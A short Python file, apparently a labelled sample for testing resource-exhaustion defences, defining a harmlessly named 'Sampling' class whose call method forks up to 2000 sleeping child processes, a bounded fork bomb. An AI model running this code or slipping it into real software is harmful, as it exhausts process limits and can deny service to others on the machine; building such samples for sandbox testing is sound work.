# tries: exhausts the machine's processes (at most 2000) when it is called.
# family: exhaustion
import os
import time


class Sampling:
    def __init__(self, *args, **kwargs):
        pass

    def __call__(self, inputs, *args, **kwargs):
        for _ in range(2000):
            try:
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
            except OSError:
                break
        return None
